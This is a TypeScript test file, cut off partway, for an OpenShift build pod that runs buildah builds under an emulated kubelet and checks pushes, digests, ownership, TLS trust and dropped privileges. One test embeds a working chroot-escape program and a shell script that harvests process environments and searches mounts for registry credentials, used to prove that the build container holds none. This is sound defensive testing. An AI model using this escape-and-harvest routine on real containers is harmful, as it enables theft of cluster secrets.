/**
 * a build pod that builds. The Job `buildJob()` makes is run as a kubelet with CRI-O
 * would run it on OpenShift (test/builder/kubelet.ts), under the SCC the generated package binds
 * for the build ServiceAccount, with Debian's buildah as the builder image's buildah: on a
 * synthetic base whose files belong to several users and groups, a COPY-only and a RUN
 * Containerfile build, push with the push Secret only, and report the pushed manifest's digest;
 * taking away one privilege the pod declares makes the same build fail.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, copyFileSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parse as parseYaml } from 'yaml';
import {
  BUILD_CAPABILITIES,
  BUILD_NAMESPACE,
  BUILD_PRIORITY_CLASS,
  BUILD_SERVICE_ACCOUNT,
  buildConfigMap,
  buildJob,
  BuildJobInput,
  builderImageFor,
  buildSecret,
  CRIO_DEFAULT_CAPABILITIES,
  DEFAULT_BUILD_STORAGE,
  RUN_FILES_LIMITS,
  runFiles,
  readJobEnd,
} from '../../builder/controller/build-job.js';
import { BUILD_SCRIPT, FAILURE_TAIL_BYTES } from '../../builder/controller/build-script.js';
import { BUILD_NAMESPACE as API_BUILD_NAMESPACE } from '../../builder/api/types.js';
import { cleanupRegistry, run, startRegistry, TestRegistry } from '../../pkogen/test/oci/registry-harness.js';
import { admit, loadScc, podSecurityViolations, podStorageLimit, removeWorkDir, requireKubeletEmulation, runPod, Scc, SccRefusal } from './kubelet.js';
import { builderImage, sccBoundInPackage } from './build-pod-fixtures.js';

// Tests run from the repository root (as test/builder/package.test.ts assumes).
const ROOT = process.cwd();
const SCC_DIR = path.join(ROOT, 'test/builder/scc');
const DIGEST_RE = /^sha256:[0-9a-f]{64}$/;

const auth = (reg: TestRegistry) => Buffer.from(`${reg.user}:${reg.password}`).toString('base64');
/** An auth file whose only key is one repository namespace: it authenticates nothing else. */
const authFile = (key: string, reg: TestRegistry) => JSON.stringify({ auths: { [key]: { auth: auth(reg) } } });

interface SyntheticFile {
  path: string;
  uid: number;
  gid: number;
  mode: number;
  content?: string;
  dir?: boolean;
}

/** A base OS with files owned by several users and groups, set-id bits included (RHEL's /usr/bin/write is root:tty 2755). */
const BASE_FILES: SyntheticFile[] = [
  { path: 'usr/bin/write', uid: 0, gid: 5, mode: 0o2755, content: 'write' },
  { path: 'usr/bin/su', uid: 0, gid: 0, mode: 0o4755, content: 'su' },
  { path: 'home/core', uid: 1000, gid: 1000, mode: 0o700, dir: true },
  { path: 'home/core/.bashrc', uid: 1000, gid: 1000, mode: 0o644, content: 'core' },
  { path: 'var/log/journal', uid: 0, gid: 190, mode: 0o2755, dir: true },
  { path: 'var/lib/chrony', uid: 994, gid: 992, mode: 0o750, dir: true },
  { path: 'etc/shadow', uid: 0, gid: 0, mode: 0o000, content: 'root:*::0:99999:7:::\n' },
];

/** The synthetic base runs /bin/sh from busybox with no libc beside it: that busybox must be static (no PT_INTERP). */
function requireStaticBusybox(file = '/bin/busybox'): string {
  const elf = readFileSync(file);
  if (elf.readUInt32BE(0) !== 0x7f454c46 || elf[4] !== 2) throw new Error(`${file} is not a 64-bit ELF executable: apt-get install -y busybox-static`);
  const phoff = Number(elf.readBigUInt64LE(0x20));
  const phentsize = elf.readUInt16LE(0x36);
  const phnum = elf.readUInt16LE(0x38);
  for (let k = 0; k < phnum; k++) {
    if (elf.readUInt32LE(phoff + k * phentsize) === 3) throw new Error(`${file} is dynamically linked: the synthetic base image needs busybox-static (apt-get install -y busybox-static)`);
  }
  return file;
}

function ownership(root: string, rel: string): string {
  const st = lstatSync(path.join(root, rel));
  return `${st.uid}:${st.gid} ${(st.mode & 0o7777).toString(8).padStart(4, '0')}`;
}

describe('the build pod, executed as a kubelet would', () => {
  let reg: TestRegistry;
  let work: string;
  let scc: Scc;
  let baseImage: string;
  let toolsImage: string;
  let seq = 0;

  const skopeoCreds = () => ['--creds', `${reg.user}:${reg.password}`, '--tls-verify=false'];

  function pushImage(name: string, files: SyntheticFile[], extra: { busybox?: boolean } = {}): string {
    const dir = mkdtempSync(path.join(work, 'img-'));
    const rootfs = path.join(dir, 'rootfs');
    for (const d of ['bin', 'usr/bin', 'etc', 'home', 'var/log', 'var/lib', 'tmp']) mkdirSync(path.join(rootfs, d), { recursive: true });
    chmodSync(path.join(rootfs, 'tmp'), 0o1777);
    if (extra.busybox) {
      copyFileSync(requireStaticBusybox(), path.join(rootfs, 'bin/busybox'));
      chmodSync(path.join(rootfs, 'bin/busybox'), 0o755);
      for (const a of ['sh', 'echo', 'chown', 'ls', 'cat', 'false']) symlinkSync('busybox', path.join(rootfs, 'bin', a));
    }
    writeFileSync(path.join(rootfs, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/sh\ncore:x:1000:1000::/home/core:/bin/sh\n');
    for (const f of files) {
      const p = path.join(rootfs, f.path);
      mkdirSync(path.dirname(p), { recursive: true });
      if (f.dir) mkdirSync(p, { recursive: true });
      else writeFileSync(p, f.content ?? '');
    }
    // Ownership before modes (chown clears set-id bits); deepest first, so a 0700 directory is filled before it closes.
    for (const f of [...files].sort((a, b) => b.path.length - a.path.length)) {
      execFileSync('chown', ['-h', `${f.uid}:${f.gid}`, path.join(rootfs, f.path)]);
      chmodSync(path.join(rootfs, f.path), f.mode);
    }
    run('tar', ['--numeric-owner', '--sort=name', '--mtime=@0', '-C', rootfs, '-cf', path.join(dir, 'layer.tar'), '.']);
    const layout = path.join(dir, 'oci');
    run('umoci', ['init', '--layout', layout]);
    run('umoci', ['new', '--image', `${layout}:img`]);
    run('umoci', ['raw', 'add-layer', '--image', `${layout}:img`, path.join(dir, 'layer.tar')]);
    run('umoci', ['config', '--image', `${layout}:img`, '--config.env', 'PATH=/usr/bin:/bin']);
    const ref = `${reg.host}/ocp/${name}`;
    run('skopeo', ['copy', '--quiet', '--dest-creds', `${reg.user}:${reg.password}`, '--dest-tls-verify=false', `oci:${layout}:img`, `docker://${ref}:1`]);
    const digest = `sha256:${createHash('sha256').update(Buffer.from(run('skopeo', ['inspect', '--raw', ...skopeoCreds(), `docker://${ref}:1`]))).digest('hex')}`;
    return `${ref}@${digest}`;
  }

  beforeAll(async () => {
    // Fails (never skips) where this machine cannot run rootless buildah the way the pod does.
    requireKubeletEmulation();
    work = mkdtempSync(path.join(tmpdir(), 'build-pod-'));
    scc = sccBoundInPackage();
    reg = await startRegistry('basic');
    baseImage = pushImage('rhcos', BASE_FILES, { busybox: true });
    toolsImage = pushImage('tools', [{ path: 'usr/bin/tool', uid: 0, gid: 0, mode: 0o755, content: 'tool' }]);
  });

  afterAll(async () => {
    await cleanupRegistry(reg);
    if (work) removeWorkDir(work);
  });

  function input(containerfile: string, over: Partial<BuildJobInput> = {}): BuildJobInput {
    const n = String(++seq).padStart(2, '0');
    return {
      namespace: BUILD_NAMESPACE,
      jobName: `build-workers-00000000${n}`,
      buildName: `workers-00000000${n}`,
      configName: 'workers',
      nodePool: 'workers',
      releaseImage: `${reg.host}/ocp/release@sha256:${'a'.repeat(64)}`,
      baseOSImage: baseImage,
      builderImage: `${reg.host}/ocp/machine-config-operator@sha256:${'c'.repeat(64)}`,
      pushTag: `${reg.host}/layered/workers:workers-00000000${n}`,
      containerfile,
      activeDeadlineSeconds: 3600,
      backoffLimit: 0,
      arch: 'amd64',
      tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'os-builds', effect: 'NoSchedule' }],
      registriesConf: `[[registry]]\nlocation = "${reg.host}"\ninsecure = true\n`,
      ...over,
    };
  }

  /** Runs one build: the Job, its ConfigMap and Secret as the controller creates them, optionally edited. */
  async function build(i: BuildJobInput, edit: (job: any) => void = () => {}, pushAuth = authFile(`${reg.host}/layered`, reg), run: Parameters<typeof buildSecret>[4] = {}) {
    const job = buildJob(i) as any;
    job.metadata.uid = `uid-${i.jobName}`;
    edit(job);
    const cm = buildConfigMap(i, job) as any;
    const secret = buildSecret(i, job, authFile(`${reg.host}/ocp`, reg), pushAuth, run) as any;
    const dir = mkdtempSync(path.join(work, 'pod-'));
    return runPod({
      job,
      configMaps: { [cm.metadata.name]: cm.data },
      secrets: { [secret.metadata.name]: secret.data },
      scc,
      runtimeDefaultCapabilities: CRIO_DEFAULT_CAPABILITIES,
      image: builderImage(),
      workDir: dir,
    });
  }

  /** The pushed image, pulled and unpacked with its owners (umoci as root). */
  function unpackPushed(ref: string): string {
    const dir = mkdtempSync(path.join(work, 'pulled-'));
    run('skopeo', ['copy', '--quiet', '--src-creds', `${reg.user}:${reg.password}`, '--src-tls-verify=false', `docker://${ref}`, `oci:${dir}/oci:out`]);
    run('umoci', ['unpack', '--image', `${dir}/oci:out`, `${dir}/bundle`]);
    return path.join(dir, 'bundle/rootfs');
  }

  function expectPushed(i: BuildJobInput, message: string): { ref: string; config: any } {
    expect(message).toMatch(DIGEST_RE);
    const repo = i.pushTag.replace(/:[^:/]+$/, '');
    // The digest the controller records is the manifest the registry serves for the tag.
    const raw = run('skopeo', ['inspect', '--raw', ...skopeoCreds(), `docker://${i.pushTag}`]);
    expect(`sha256:${createHash('sha256').update(Buffer.from(raw)).digest('hex')}`).toBe(message);
    const config = JSON.parse(run('skopeo', ['inspect', '--config', ...skopeoCreds(), `docker://${repo}@${message}`]));
    return { ref: `${repo}@${message}`, config };
  }

  function expectBaseOwnership(rootfs: string) {
    for (const f of BASE_FILES) expect(`${f.path} ${ownership(rootfs, f.path)}`).toBe(`${f.path} ${f.uid}:${f.gid} ${f.mode.toString(8).padStart(4, '0')}`);
  }

  it('the SCC is the one the package binds, and it gives the pod exactly what it declares', () => {
    const job = buildJob(input('FROM configs AS final\n')) as any;
    const pod = job.spec.template.spec;
    expect(scc.metadata.name).toBe('anyuid');
    expect(pod.serviceAccountName).toBe(BUILD_SERVICE_ACCOUNT);
    expect([...pod.initContainers, ...pod.containers].map((c: any) => c.name)).toEqual(['pull', 'build', 'push']);
    for (const c of [...pod.initContainers, ...pod.containers]) {
      const eff = admit(pod, c, scc, CRIO_DEFAULT_CAPABILITIES, builderImage());
      expect(eff).toEqual({ scc: 'anyuid', uid: 1000, gid: 1000, groups: [], bounding: [...BUILD_CAPABILITIES], noNewPrivs: false, readOnlyRoot: true });
    }
  });

  it('a COPY-only Containerfile builds, pushes with the push Secret and reports the pushed digest; the stage after final is not built', async () => {
    const i = input(['FROM configs AS final', `COPY --from=${toolsImage} /usr/bin/tool /usr/bin/tool`, 'LABEL built-by=copy', '', 'FROM configs AS after-final', 'LABEL stage=after-final', ''].join('\n'));
    const r = await build(i);
    expect({ exitCode: r.exitCode, evicted: r.evicted }).toEqual({ exitCode: 0, evicted: undefined });
    const { ref, config } = expectPushed(i, r.terminationMessage);
    expect(config.config.Labels).toMatchObject({ 'built-by': 'copy', 'io.openshift.hypershift.nodepool': 'workers', baseOSContainerImage: baseImage });
    expect(config.config.Labels.stage).toBeUndefined();
    const rootfs = unpackPushed(ref);
    expectBaseOwnership(rootfs);
    expect(ownership(rootfs, 'usr/bin/tool')).toBe('0:0 0755');
    // Nothing of the build escaped the emptyDir: the pod's log shows buildah's pull of the base.
    expect(r.logs).toContain('Writing manifest to image destination');
  });

  it('a Containerfile with RUN builds and pushes; files RUN creates keep the owners RUN gives them', async () => {
    const i = input(['FROM configs AS final', 'RUN echo built > /etc/built && chown 7:7 /etc/built && chown 994:992 /var/lib/chrony', ''].join('\n'));
    const r = await build(i);
    expect({ exitCode: r.exitCode, evicted: r.evicted, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, evicted: undefined, tail: '' });
    const { ref } = expectPushed(i, r.terminationMessage);
    const rootfs = unpackPushed(ref);
    expectBaseOwnership(rootfs);
    expect(ownership(rootfs, 'etc/built')).toBe('7:7 0644');
    expect(readFileSync(path.join(rootfs, 'etc/built'), 'utf8')).toBe('built\n');
  });

  /**
   * A RUN step that leaves buildah's chroot the two ways a program in it can, and searches what it
   * reaches: a static program (no libc, raw system calls) chroots into a subdirectory while its
   * working directory stays outside, climbs to the container's root and chroots there (RUN keeps
   * CAP_SYS_CHROOT in its user namespace), then runs a shell script that reads every process's
   * environment and command line, every `/proc/<pid>/root` it may, and every file under every
   * mount of the container (its mountinfo, but proc, sys and dev mounts) holding an auth file's `"auths"`
   * key (spelt at run time, so the Containerfile itself does not match). Its report is written into
   * the image, which the test pulls. The program and the script arrive base64-encoded.
   */
  const ESCAPE_C = [
    'static long sys3(long n, long a, long b, long c) {',
    '  long r;',
    '  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");',
    '  return r;',
    '}',
    'void _start(void) {',
    '  static char *argv[] = {"busybox", "sh", "-s", 0};',
    '  static char *envp[] = {"PATH=/bin:/usr/bin", 0};',
    '  sys3(83, (long)".esc", 0700, 0);',
    '  sys3(161, (long)".esc", 0, 0);',
    '  for (int i = 0; i < 64; i++) sys3(80, (long)"..", 0, 0);',
    '  sys3(161, (long)".", 0, 0);',
    '  sys3(59, (long)"/bin/busybox", (long)argv, (long)envp);',
    '  sys3(60, 127, 0, 0);',
    '}',
    '',
  ].join('\n');
  const ESCAPE_SCRIPT = [
    'A=aut; b=busybox',
    'if $b cat /var/run/on-cluster-build/containerfile/Containerfile >/dev/null 2>&1; then echo reached-container-root; fi',
    'found() { for f in $($b find "$@" -xdev -type f -exec $b grep -l "\\"${A}hs\\"" {} + 2>/dev/null); do case $f in *escape-report*) ;; *) echo "== $f: $($b head -c 2000 $f)";; esac; done; }',
    'for p in /proc/[0-9]*; do',
    '  echo "== $p environ: $($b tr "\\000" " " < $p/environ 2>/dev/null)"',
    '  echo "== $p cmdline: $($b tr "\\000" " " < $p/cmdline 2>/dev/null | $b head -c 200)"',
    '  if $b ls $p/root/ >/dev/null 2>&1; then echo "== searched $p/root/var/run $p/root/run"; found $p/root/var/run/ $p/root/run/; fi',
    'done',
    "for m in $($b awk '{print $5}' /proc/self/mountinfo | $b grep -Ev '(^|/)(proc|sys|dev)(/|$)' | $b sort -u); do",
    '  case $m in /) continue;; esac',
    '  found $m',
    '  echo "== searched $m"',
    'done',
    '',
  ].join('\n');
  let ESCAPE = '';
  /** The RUN step; the program is compiled here (x86-64, gcc) when first asked for. */
  function escapeStep(): string {
    if (ESCAPE) return ESCAPE;
    const dir = mkdtempSync(path.join(work, 'escape-'));
    writeFileSync(path.join(dir, 'esc.c'), ESCAPE_C);
    run('gcc', ['-static', '-nostdlib', '-Os', '-fno-stack-protector', '-fno-asynchronous-unwind-tables', '-Wl,--build-id=none', '-s', '-o', path.join(dir, 'esc'), path.join(dir, 'esc.c')]);
    const prog = readFileSync(path.join(dir, 'esc')).toString('base64');
    const script = Buffer.from(ESCAPE_SCRIPT).toString('base64');
    ESCAPE = `printf '%s' '${prog}' | busybox base64 -d > /esc && busybox chmod 0755 /esc && printf '%s' '${script}' | busybox base64 -d > /escape.sh && /esc < /escape.sh > /escape-report; busybox rm -f /esc /escape.sh`;
    return ESCAPE;
  }

  it('a RUN step that leaves the chroot finds no credential of the pull or push Secret: the build container has none', async () => {
    const i = input(['FROM configs AS final', `RUN ${escapeStep()}`, ''].join('\n'));
    const r = await build(i);
    expect({ exitCode: r.exitCode, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
    const { ref } = expectPushed(i, r.terminationMessage);
    const report = readFileSync(path.join(unpackPushed(ref), 'escape-report'), 'utf8');
    // It did get out: it read the build container's own files and searched its volumes.
    expect(report).toMatch(/^reached-container-root$/m);
    expect(report).toMatch(/^== searched \/tmp$/m);
    if (process.env.ESCAPE_REPORT) writeFileSync(process.env.ESCAPE_REPORT, report);
    // And found nothing of either Secret: no auth file, no password, no auth value.
    const secrets = [reg.password!, auth(reg), 'base.json', 'push.json', '"auths"'];
    for (const s of secrets) expect({ s, found: report.includes(s) }).toEqual({ s, found: false });
    // The pulled images it could read (read-only: it cannot alter what the push container pushes).
    expect(report).toMatch(/^== searched \/var\/lib\/on-cluster-build\/base$/m);
  });

  // Every shape the webhook admits (builder/webhook/containerfile.ts: `final` last, FROM configs;
  // earlier stages FROM configs or an earlier stage; --from= an earlier stage).
  it.each([
    ['an empty final stage alone', ['FROM configs AS final'], undefined],
    ['an empty final stage after another stage', ['FROM configs AS tools', 'RUN echo tools > /tools', '', 'FROM configs AS final'], undefined],
    ['a final stage copying from an earlier stage', ['FROM configs AS tools', 'RUN echo made > /made', '', 'FROM tools AS more', 'RUN echo more >> /made', '', 'FROM configs AS final', 'COPY --from=more /made /etc/made'], 'made\nmore\n'],
  ])('%s builds, and the pushed image begins with the base image\'s layers', async (_what, lines, made) => {
    const i = input([...lines, ''].join('\n'));
    const r = await build(i);
    expect({ exitCode: r.exitCode, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
    const { ref, config } = expectPushed(i, r.terminationMessage);
    const base = JSON.parse(run('skopeo', ['inspect', '--config', ...skopeoCreds(), `docker://${baseImage}`]));
    expect(config.rootfs.diff_ids.slice(0, base.rootfs.diff_ids.length)).toEqual(base.rootfs.diff_ids);
    const rootfs = unpackPushed(ref);
    expectBaseOwnership(rootfs);
    if (made) expect(readFileSync(path.join(rootfs, 'etc/made'), 'utf8')).toBe(made);
    for (const f of ['tools', 'made']) expect(() => lstatSync(path.join(rootfs, f))).toThrow();
  });

  it('a push target whose TLS certificate a private CA signed: pushed with the trust bundle, refused (x509) without it', async () => {
    const tls = await startRegistry('tls');
    try {
      const over = { pushTag: '', registriesConf: `[[registry]]\nlocation = "${reg.host}"\ninsecure = true\n` };
      const none = JSON.stringify({ auths: {} });
      const without = input('FROM configs AS final\nLABEL trust=none\n', over);
      without.pushTag = `${tls.host}/layered/workers:${without.buildName}`;
      const r1 = await build(without, () => {}, none);
      expect(r1.exitCode).not.toBe(0);
      expect(r1.containers.map((c) => [c.name, c.exitCode === 0])).toEqual([['pull', true], ['build', true], ['push', false]]);
      expect(r1.terminationMessage).toMatch(/^push failed \(exit \d+\):\n[\s\S]*x509: certificate signed by unknown authority/);
      const withCa = input('FROM configs AS final\nLABEL trust=bundle\n', { ...over, trustBundle: readFileSync(tls.caFile!, 'utf8') });
      withCa.pushTag = `${tls.host}/layered/workers:${withCa.buildName}`;
      const r2 = await build(withCa, () => {}, none);
      expect({ exitCode: r2.exitCode, tail: r2.exitCode ? r2.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
      const raw = run('skopeo', ['inspect', '--raw', '--cert-dir', tls.certDir!, `docker://${withCa.pushTag}`]);
      expect(`sha256:${createHash('sha256').update(Buffer.from(raw)).digest('hex')}`).toBe(r2.terminationMessage);
      // The base came from the other registry: the pushed image still begins with its layers.
      const config = JSON.parse(run('skopeo', ['inspect', '--config', '--cert-dir', tls.certDir!, `docker://${withCa.pushTag.replace(/:[^:/]+$/, '')}@${r2.terminationMessage}`]));
      const base = JSON.parse(run('skopeo', ['inspect', '--config', ...skopeoCreds(), `docker://${baseImage}`]));
      expect(config.rootfs.diff_ids.slice(0, base.rootfs.diff_ids.length)).toEqual(base.rootfs.diff_ids);
    } finally {
      await cleanupRegistry(tls);
    }
  });

  it('an image signature policy is applied to the pull: a policy that rejects everything stops the build before it runs', async () => {
    const i = input('FROM configs AS final\nLABEL policy=reject\n', { policyJson: JSON.stringify({ default: [{ type: 'reject' }] }) });
    const r = await build(i);
    expect(r.exitCode).not.toBe(0);
    expect(r.containers.map((c) => c.name)).toEqual(['pull']);
    expect(r.terminationMessage).toMatch(/^pull failed \(exit \d+\):\n[\s\S]*rejected/i);
    const ok = input('FROM configs AS final\nLABEL policy=accept\n', { policyJson: JSON.stringify({ default: [{ type: 'insecureAcceptAnything' }] }) });
    expect((await build(ok)).exitCode).toBe(0);
  });

  // RHEL entitlements (insights-operator's `etc-pki-entitlement`: entitlement.pem, entitlement-key.pem).
  const CERT = '-----BEGIN CERTIFICATE-----\nENTITLEMENT-CERT-MARKER-5f1c\n-----END CERTIFICATE-----\n';
  const KEY = '-----BEGIN PRIVATE KEY-----\nENTITLEMENT-KEY-MARKER-9a3e\n-----END PRIVATE KEY-----\n';
  const ENTITLEMENT = { 'entitlement.pem': Buffer.from(CERT).toString('base64'), 'entitlement-key.pem': Buffer.from(KEY).toString('base64') };
  const sha256 = (t: string) => createHash('sha256').update(t).digest('hex');
  /** Every regular file under `root` whose content holds one of `needles` (paths relative to root). */
  function filesHolding(root: string, needles: string[]): string[] {
    const hits: string[] = [];
    const walk = (d: string) => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile()) {
          const t = readFileSync(p);
          if (needles.some((n) => t.includes(n))) hits.push(path.relative(root, p));
        }
      }
    };
    walk(root);
    return hits;
  }

  const REPO = '[satellite]\nname=SATELLITE-REPO-MARKER-77b2\nbaseurl=https://satellite.example.com/pulp/content\n';
  const GPG = '-----BEGIN PGP PUBLIC KEY BLOCK-----\nGPG-KEY-MARKER-c40d\n-----END PGP PUBLIC KEY BLOCK-----\n';
  it('entitlements, repositories and GPG keys: a RUN step reads them where dnf looks, and the pushed image holds none of them', async () => {
    // The step reads every file (their checksums go into the image), as dnf and its subscription-manager plugin would.
    const files = '/etc/pki/entitlement/entitlement.pem /etc/pki/entitlement/entitlement-key.pem /etc/yum.repos.d/satellite.repo /etc/pki/rpm-gpg/RPM-GPG-KEY-satellite';
    const i = input(['FROM configs AS final', `RUN busybox sha256sum ${files} > /etc/run-files-seen`, ''].join('\n'), {
      runFiles: { entitlement: Object.keys(ENTITLEMENT), 'yum-repos': ['satellite.repo'], 'rpm-gpg': ['RPM-GPG-KEY-satellite'] },
    });
    const repos = runFiles('yum-repos', { 'satellite.repo': REPO }, 'ConfigMap t/etc-yum-repos-d', 'text');
    const gpg = runFiles('rpm-gpg', { 'RPM-GPG-KEY-satellite': Buffer.from(GPG).toString('base64') }, 'Secret t/etc-pki-rpm-gpg');
    if (!('files' in repos) || !('files' in gpg)) throw new Error('runFiles refused the fixtures');
    const r = await build(i, () => {}, undefined, { entitlement: ENTITLEMENT, 'yum-repos': repos.files, 'rpm-gpg': gpg.files });
    expect({ exitCode: r.exitCode, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
    const { ref } = expectPushed(i, r.terminationMessage);
    const rootfs = unpackPushed(ref);
    const seen = readFileSync(path.join(rootfs, 'etc/run-files-seen'), 'utf8');
    expect(seen).toContain(`${sha256(CERT)}  /etc/pki/entitlement/entitlement.pem`);
    expect(seen).toContain(`${sha256(KEY)}  /etc/pki/entitlement/entitlement-key.pem`);
    expect(seen).toContain(`${sha256(REPO)}  /etc/yum.repos.d/satellite.repo`);
    expect(seen).toContain(`${sha256(GPG)}  /etc/pki/rpm-gpg/RPM-GPG-KEY-satellite`);
    // Not in any layer: no file of the image holds one of them, and nothing is left at the mount points.
    expect(filesHolding(rootfs, ['ENTITLEMENT-CERT-MARKER', 'ENTITLEMENT-KEY-MARKER', 'SATELLITE-REPO-MARKER', 'GPG-KEY-MARKER'])).toEqual([]);
    const left = (d: string) => {
      try {
        return readdirSync(path.join(rootfs, d));
      } catch {
        return [];
      }
    };
    expect([...left('etc/pki/entitlement'), ...left('etc/yum.repos.d'), ...left('etc/pki/rpm-gpg')]).toEqual([]);
    // Nor in the build's own output.
    expect(r.logs).not.toMatch(/MARKER/);
    expect(r.terminationMessage).not.toMatch(/MARKER/);
  });

  it('entitlements: without them, the same RUN step finds nothing there and the build fails', async () => {
    const i = input(['FROM configs AS final', 'RUN busybox sha256sum /etc/pki/entitlement/entitlement.pem > /etc/entitlement-seen', ''].join('\n'));
    const r = await build(i);
    expect(r.exitCode).not.toBe(0);
    expect(r.terminationMessage).toMatch(/entitlement\.pem: No such file or directory|can't open/);
  });

  // Each declared privilege, taken away alone, breaks the build.
  const everyContainer = (job: any): any[] => [...job.spec.template.spec.initContainers, ...job.spec.template.spec.containers];
  const withoutCapability = (cap: string) => (job: any) => everyContainer(job).forEach((c) => c.securityContext.capabilities.drop.push(cap));
  it.each([
    ['the SETUID capability', withoutCapability('SETUID'), /insufficient UIDs or GIDs|lchown .*invalid argument/],
    ['the SETGID capability', withoutCapability('SETGID'), /insufficient UIDs or GIDs|lchown .*invalid argument/],
    ['privilege escalation (no_new_privs)', (job: any) => everyContainer(job).forEach((c) => (c.securityContext.allowPrivilegeEscalation = false)), /insufficient UIDs or GIDs|lchown .*invalid argument/],
    [
      'the emptyDir',
      (job: any) => {
        const pod = job.spec.template.spec;
        pod.volumes = pod.volumes.filter((v: any) => !v.emptyDir);
        for (const c of everyContainer(job)) c.volumeMounts = c.volumeMounts.filter((m: any) => pod.volumes.some((v: any) => v.name === m.name));
      },
      /Read-only file system/,
    ],
  ])('without %s the same build fails, and the termination message says why', async (_what, edit, why) => {
    const i = input(['FROM configs AS final', `COPY --from=${toolsImage} /usr/bin/tool /usr/bin/tool`, ''].join('\n'));
    const r = await build(i, edit);
    expect(r.exitCode).not.toBe(0);
    expect(r.terminationMessage).not.toMatch(DIGEST_RE);
    expect(r.terminationMessage).toMatch(why);
  });

  it('pushes with the push Secret only: without credentials for the push repository the push fails', async () => {
    const i = input('FROM configs AS final\nLABEL x=y\n');
    // The base pull Secret's credentials are for <registry>/ocp only, so they do not authenticate the push either.
    const r = await build(i, () => {}, JSON.stringify({ auths: {} }));
    expect(r.exitCode).not.toBe(0);
    expect(r.terminationMessage).toMatch(/^push failed \(exit \d+\):\n/);
    expect(r.terminationMessage).toMatch(/authentication required|unauthorized/i);
    // The build itself pulled with the base Secret and succeeded; only the push was refused.
    expect(r.logs).toContain('Successfully tagged');
  });

  it('a build that outgrows the emptyDir sizeLimit is evicted, as the kubelet would', async () => {
    const i = input('FROM configs AS final\nLABEL small=limit\n', { storage: { request: '1Mi', limit: '1Mi' } });
    const r = await build(i);
    // The pulled base alone outgrows it.
    expect(r.evicted).toBe('Usage of EmptyDir volume "base" exceeds the limit "1048576".');
  });

  it('a failing RUN step: the termination message is the bounded tail of the output, ending with the error', async () => {
    // A long step, like a dnf install that fails at the end: 300 lines of output, then exit 7.
    const step = 'i=0; while [ $i -lt 300 ]; do echo progress-line-$i; i=$((i+1)); done; exit 7';
    const i = input(['FROM configs AS final', `RUN ${step}`, ''].join('\n'));
    const r = await build(i);
    expect(r.exitCode).not.toBe(0);
    const msg = r.terminationMessage;
    expect(Buffer.byteLength(msg)).toBeLessThanOrEqual(FAILURE_TAIL_BYTES + 64);
    expect(msg).toMatch(/^build failed \(exit \d+\):\n/);
    // buildah 1.28, removing the failed step's container over a read-only image store, prefixes "layer not known: ".
    expect(msg.trimEnd().split('\n').pop()).toMatch(new RegExp(`^Error: (layer not known: )?building at STEP "RUN ${step.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}": exit status 7$`));
    expect(msg).toContain('progress-line-299\n');
    // The log starts with the pull and the step's first lines; the message keeps none of them.
    expect(r.logs).toMatch(/Trying to pull[\s\S]*progress-line-0\n/);
    expect(msg).not.toMatch(/Trying to pull|progress-line-0\n/);
  });
});

describe('the build Job as the API and admission see it', () => {
  const input: BuildJobInput = {
    namespace: API_BUILD_NAMESPACE,
    jobName: 'build-workers-0123456789',
    buildName: 'workers-0123456789',
    configName: 'workers',
    nodePool: 'workers',
    releaseImage: 'quay.io/openshift-release-dev/ocp-release@sha256:' + 'a'.repeat(64),
    baseOSImage: 'quay.io/openshift-release-dev/ocp-v4.0-art-dev@sha256:' + 'b'.repeat(64),
    builderImage: 'quay.io/openshift-release-dev/ocp-v4.0-art-dev@sha256:' + 'c'.repeat(64),
    pushTag: 'quay.io/example/os:workers-0123456789',
    containerfile: 'FROM configs AS final\nRUN true\n',
    activeDeadlineSeconds: 1800,
    backoffLimit: 1,
    arch: 'arm64',
    tolerations: [{ key: 'arch', operator: 'Equal', value: 'arm', effect: 'NoSchedule' }],
  };
  const anyuid = loadScc(path.join(SCC_DIR, 'anyuid.yaml'));
  const restrictedV2 = loadScc(path.join(SCC_DIR, 'restricted-v2.yaml'));

  it('schedules on the NodePool architecture with its tolerations, low priority, bounded resources and storage', () => {
    const pod = (buildJob(input) as any).spec.template.spec;
    expect(pod.nodeSelector).toEqual({ 'kubernetes.io/os': 'linux', 'kubernetes.io/arch': 'arm64' });
    expect(pod.tolerations).toEqual(input.tolerations);
    expect(pod.priorityClassName).toBe(BUILD_PRIORITY_CLASS);
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.hostUsers).toBeUndefined();
    const c = pod.containers[0];
    expect(c.resources).toEqual({
      requests: { cpu: '500m', memory: '1Gi', 'ephemeral-storage': DEFAULT_BUILD_STORAGE.request },
      limits: { cpu: '2', memory: '8Gi', 'ephemeral-storage': DEFAULT_BUILD_STORAGE.limit },
    });
    expect(pod.volumes.filter((v: any) => v.emptyDir)).toEqual(['base', 'build', 'scratch'].map((name) => ({ name, emptyDir: { sizeLimit: DEFAULT_BUILD_STORAGE.limit } })));
    // Scratch space is reserved, not borrowed: every container requests what it may use, so the
    // pod's request as the scheduler sums it (the larger of any init container's and the sum of
    // the app containers') is its limit as the kubelet's pod-level eviction sums it.
    expect(DEFAULT_BUILD_STORAGE).toEqual({ request: '250Gi', limit: '250Gi' });
    const storageOf = (k: 'requests' | 'limits') => [...pod.initContainers, ...pod.containers].map((x: any) => x.resources[k]['ephemeral-storage']);
    expect(storageOf('requests')).toEqual(storageOf('limits'));
    expect(podStorageLimit(pod)).toBe(250 * 1024 ** 3);
    const parseGi = (q: string) => Number(/^(\d+)Gi$/.exec(q)![1]) * 1024 ** 3;
